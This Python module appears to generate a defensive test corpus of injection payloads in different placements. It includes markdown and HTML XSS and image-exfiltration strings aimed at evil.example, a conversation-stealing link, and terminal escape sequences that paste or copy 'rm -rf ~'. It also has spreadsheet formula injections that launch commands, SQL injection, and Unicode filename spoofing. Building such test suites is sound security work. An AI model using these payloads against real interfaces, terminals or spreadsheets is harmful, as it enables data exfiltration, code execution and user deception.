"""Texts that would act if a page or a terminal read them as anything but text: families, each in several placements.

A hit shows itself: a request to `HOST`, a value of `window.canary`, a dialog, an element, a control that reaches a terminal.
"""

from dataclasses import dataclass

HOST = "evil.example"
SCRIPT = "window.canary=1;alert(1)"
URL = f"http://{HOST}"

FAMILIES: dict[str, tuple[str, ...]] = {
    "image": (
        f"![a]({URL}/1.png)",
        f"![a](<{URL}/2 x.png> 'title')",
        f"![a][r1]\n\n[r1]: {URL}/3.png",
        f"[![a]({URL}/4.png)]({URL}/4)",
        f"![a](//{HOST}/5.png)",
        f"<img src={URL}/6.png>",
        f"<img src='x' srcset='{URL}/7.png 1x, {URL}/7b.png 2x'>",
        f"<picture><source srcset={URL}/8.webp><img src=x></picture>",
        f"<IMG\nSRC\n=\n'{URL}/9.png'\n>",
        f"<svg><image href='{URL}/10.png'/><image xlink:href='{URL}/10b.png'/></svg>",
        f"<svg><foreignObject><img src='{URL}/11.png'></foreignObject></svg>",
        f"<svg><use href='{URL}/12.svg#a'/></svg>",
        f"<input type=image src={URL}/13.png>",
        f"<table background={URL}/14.png><tr><td>x</td></tr></table>",
    ),
    "fetch": (
        f"<iframe src={URL}/20></iframe>",
        f'<iframe srcdoc="<img src={URL}/21>"></iframe>',
        f"<object data={URL}/22></object>",
        f"<embed src={URL}/23>",
        f"<video src={URL}/24 poster={URL}/24.png autoplay></video>",
        f"<audio src={URL}/25 autoplay></audio>",
        f"<link rel=stylesheet href={URL}/26.css>",
        f"<link rel=prefetch href={URL}/27><link rel=dns-prefetch href=//{HOST}>",
        f"<meta http-equiv=refresh content='0;url={URL}/28'>",
        f"<base href={URL}/><img src=29.png>",
        f"<style>body{{background:url({URL}/30.png)}}</style>",
        f"<style>@import '{URL}/31.css';</style>",
        f"<div style=\"background-image:url('{URL}/32.png')\">x</div>",
        f"<p style='list-style:url({URL}/33.png);display:list-item'>x",
        f"<form action={URL}/34><button autofocus>x</button></form>",
        f"<track src={URL}/35><portal src={URL}/35></portal><frameset><frame src={URL}/35b>",
    ),
    "script": (
        f"<script>{SCRIPT}</script>",
        f"<script src={URL}/40.js></script>",
        f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
        f"<img src=x onerror='{SCRIPT}'>",
        f"<svg onload='{SCRIPT}'>",
        f"<svg><script>{SCRIPT}</script></svg>",
        f"<svg><animate onbegin='{SCRIPT}' attributeName=x dur=1s>",
        f"<body onload='{SCRIPT}'>",
        f"<details open ontoggle='{SCRIPT}'>",
        f"<input autofocus onfocus='{SCRIPT}'>",
        f"<math><mtext><table><mglyph><style><img src=x onerror='{SCRIPT}'>",
        f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
        f'"><script>{SCRIPT}</script>',
        f"'-{SCRIPT}-'",
        f"</textarea><script>{SCRIPT}</script>",
        f"</div></mark></details><script>{SCRIPT}</script>",
        f"</title></style></script><script>{SCRIPT}</script>",
        f"<!--><script>{SCRIPT}</script>-->",
        f"<![CDATA[<script>{SCRIPT}</script>]]>",
        "{{constructor.constructor('" + SCRIPT + "')()}}",
        "${" + SCRIPT + "} #{" + SCRIPT + "} <%= 1 %>",
    ),
    "link": (
        f"[click]({URL}/60)",
        f"[click](javascript:{SCRIPT})",
        f"[click](JaVaScRiPt&colon;{SCRIPT})",
        f"[click](vbscript:{SCRIPT})",
        f"[click](data:text/html,<script>{SCRIPT}</script>)",
        f"<{URL}/61>",
        f"{URL}/62",
        f"https://{HOST}/63",
        f"www.{HOST}/64",
        f"WWW.{HOST}",
        f"someone@{HOST}",
        f"mailto:someone@{HOST} xmpp:a@{HOST}",
        f"[click][r2]\n\n[r2]: {URL}/65 'x'",
        f"[r3]\n\n[r3]: {URL}/66",
        f"[^1]\n\n[^1]: {URL}/67",
        f"<a href={URL}/68>click</a>",
        f"<a href='javascript:{SCRIPT}'>click</a>",
        f"<a href='java\tscript:{SCRIPT}' ping={URL}/69>click</a>",
        "[text](#anchor)",
        "[1](/?conversation=stolen)",
    ),
    "encoding": (
        f"&lt;img src={URL}/80&gt;",
        f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
        f"&#x3c;img src=x onerror={SCRIPT}&#x3e;",
        f"%3Cscript%3E{SCRIPT}%3C/script%3E",
        f"\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e",
        f"&amp;lt;img src={URL}/81&amp;gt;",
        f"\uff1cscript\uff1e{SCRIPT}\uff1c/script\uff1e",
        f"+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-",
        f"\\![a]({URL}/82.png) \\\\![a]({URL}/82b.png)",
        f"`` `![a]({URL}/83.png) ``",
    ),
    "streamlit": (
        ":material/home: :material/delete:",
        ":smile: :+1: :warning:",
        ":red[danger] :blue-background[x] :rainbow[x]",
        ":small[x] :green-badge[ok] :shortcut[x]",
        ":streamlit: :primary[x]",
        f"$\\href{{{URL}/90}}{{x}}$",
        f"$$\\includegraphics{{{URL}/91.png}}$$",
        f"$\\url{{{URL}/92}} \\htmlData{{a=b}}{{x}}$",
        "$\\def\\a{\\a\\a}\\a$",
        f":image[{URL}/93.png]{{src={URL}/93.png}}",
        f"::video{{src={URL}/94}}\n\n:::note\nx\n:::",
        "a -> b <- c -- d --- e >= f <= g ~= h",
        "~~gone~~ **bold** __bold__ *i* _i_ `code` ==mark==",
        "# heading\n## two\n\n---\n\n> quote\n\n1. one\n\n- [ ] task",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "```mermaid\ngraph TD; A-->B; click A href 'javascript:alert(1)'\n```",
    ),
    "unicode": (
        "invoice\u202efdp.exe",
        "\u202dleft\u202c \u2066a\u2067b\u2068c\u2069",
        "\u202a\u202bx",
        "re\u200bport\u200c.t\u200dxt",
        "\ufeffreport\u2060.txt",
        "\u0440\u0430ypal.txt",
        "x\u200e\u200f\u061cy",
        "tag\U000e0041\U000e0042\U000e007f",
        "line\u2028para\u2029end",
        "\ufff9a\ufffab\ufffb \u206a\u206f",
        "a\u0300\u0301\u0302\u0303\u0304\u0305" * 20,
        "soft\xadhyphen \u3164 \u115f \u180e \u034f",
        "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d \U0001f469\u200d\U0001f4bb",
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m",
        "\x1b[38;2;255;0;0mred",
        "\x1b[2J\x1b[H",
        "\x1b[3J\x1bc",
        "\x1b[1A\x1b[2Kreplaced",
        "\x1b[10;10Hmoved",
        "\x1b[?1049h\x1b[?25l",
        "\x1b[?2004h\x1b[200~rm -rf ~\n\x1b[201~",
        "\x1b[6n\x1b[c\x1b[>c\x1b[5n",
        "\x1b]0;title\x07",
        "\x1b]2;title\x1b\\",
        f"\x1b]8;;{URL}/100\x1b\\link\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIH4=\x07",
        "\x1b]4;0;rgb:ff/00/00\x07\x1b]10;?\x07",
        "\x1b]1337;File=inline=1:AAAA\x07",
        "\x1b]9;notify\x07\x1b]777;notify;a;b\x07",
        "\x1bP$q\"p\x1b\\",
        "\x1b_Gf=100;AAAA\x1b\\",
        "\x1b^pm\x1b\\\x1bXsos\x1b\\",
        "\x1b(0lqqk\x1b(B\x0e\x0f",
        "\x1b#8\x1bM\x1bD\x1bE",
        "\x9b31mred\x9b0m",
        "\x9d0;title\x9c",
        "\x90dcs\x9c \x9fapc\x9c \x98 \x85",
        "\x07\x07bell",
        "safe\x08\x08\x08\x08evil",
        "harmless.txt\rerror: evil",
        "harmless\r\n\x1b[1Gevil",
        "a\x00b\x01c\x02d",
        "a\x0bb\x0cc\x7fd",
        "\x1c\x1d\x1e\x1f\x1a\x04\x03",
        "report.txt\nerror: the disk is full",
        "report.txt\n  [9] other.pdf",
        "tab\there\t\t\tthere",
    ),
    "rich": (
        "[red]x[/red]",
        "[/]",
        "[/bold]",
        f"[link={URL}/110]x[/link]",
        "[@click=app.bell]x[/]",
        "[bold on red blink]x",
        "\\[red]x",
        "[[red]]x",
        ":boom: :red_circle:",
    ),
    "table": (
        f'=HYPERLINK("{URL}/120","click")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        f'@SUM(1)*WEBSERVICE("{URL}/121")',
        f"\t=IMPORTXML(\"{URL}/122\",\"//a\")",
        '"},{"evil": 1, "x": "',
        '\\", "evil": "\\',
        "'; DROP TABLE turns; --",
    ),
    "long": (
        "x" * 5000,
        "\u0e01" * 2000,
        f"{URL}/" + "a" * 3000,
        "[" * 300 + "]" * 300,
        "*" * 400 + "_" * 400,
        "<" * 400 + ">" * 400,
    ),
}  # fmt: skip
PLACEMENTS = {
    "alone": "@",
    "in a sentence": "The price, @, stands on page 2.",
    "a block of its own": "Hours\n\n@\n\nClosed on Sunday.",
}
LONE = frozenset({"long"})  # families of which one placement is enough


@dataclass(frozen=True)
class Payload:
    """One text, and what it is for whoever reads a failure."""

    name: str
    text: str


def payloads() -> list[Payload]:
    """Return every family in every placement."""
    return [
        Payload(f"{family} {number}, {placement}", frame.replace("@", text))
        for family, texts in FAMILIES.items()
        for number, text in enumerate(texts)
        for placement, frame in PLACEMENTS.items()
        if family not in LONE or placement == "alone"
    ]


def texts() -> list[str]:
    """Return the texts of all payloads."""
    return [payload.text for payload in payloads()]
